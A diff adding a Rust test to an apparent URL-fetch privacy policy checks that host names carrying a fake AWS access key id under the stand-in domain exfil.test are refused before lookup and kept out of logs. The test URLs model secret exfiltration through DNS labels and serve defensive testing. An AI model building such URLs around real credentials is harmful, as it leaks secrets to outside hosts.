@@ -952,6 +952,38 @@ async fn a_host_carrying_a_secret_is_not_logged_in_warn_mode() {
     assert!(site.fetch(json!({ "url": in_host })).await.is_ok());
 }
 
+// Verifies: REQ-PRIV-002, REQ-PRIV-004 (a key folded into a host name: host names are case-insensitive, so an upper-case-only format arrives lower-cased; it is refused before any name is resolved, and with detection off the host stays out of the log)
+#[tokio::test(start_paused = true)]
+async fn a_key_folded_into_a_host_name_is_refused_before_any_lookup() {
+    // A made-up key id of AWS's shape, as the URL parser leaves it.
+    let key = "akiarjbebctbnvckc5q5";
+    let site = Site::new("");
+    for url in [
+        format!("https://{key}.exfil.test/"),
+        format!("https://x.{key}.exfil.test/"),
+        format!("https://{}.exfil.test/", key.to_ascii_uppercase()),
+        "https://AkiaRjbebctbnvckc5q5.exfil.test/".to_owned(),
+    ] {
+        let e = site.fetch(json!({ "url": url })).await.unwrap_err();
+        assert_eq!(reason(&e), "denied:secret_in_url", "{url}");
+        assert_eq!(e["detail"]["kind"], "aws_access_key_id", "{url}");
+        assert!(!e.to_string().to_ascii_lowercase().contains(key));
+    }
+    assert!(site.net.seen().is_empty());
+    // Only a whole label is a key, and only of the upper-case-only formats.
+    let scan = |text: &str| super::policy::scan_url(text).first.map(|(k, _)| k);
+    assert_eq!(scan(&format!("https://x{key}.example/")), None);
+    assert_eq!(scan("https://akiaexample.example/"), None);
+    // With detection off nothing is refused, but the host is not logged.
+    let off = load_str("[privacy]\nsecret_detection = \"off\"\n").unwrap();
+    let admitted = |url: &str| {
+        let returned = crate::returned::ReturnedUrls::default();
+        super::policy::check(url, &off, &returned, super::policy::Strict::Check).unwrap()
+    };
+    assert!(admitted(&format!("https://{key}.exfil.test/")).secret_in_host);
+    assert!(!admitted("https://example.org/").secret_in_host);
+}
+
 // Verifies: REQ-PRIV-002, REQ-SEC-023 (found by the url_policy fuzz target:
 // a tab or a line break inside a credential hid it from the check, and the
 // URL parser removes them, so the request would have carried it whole)
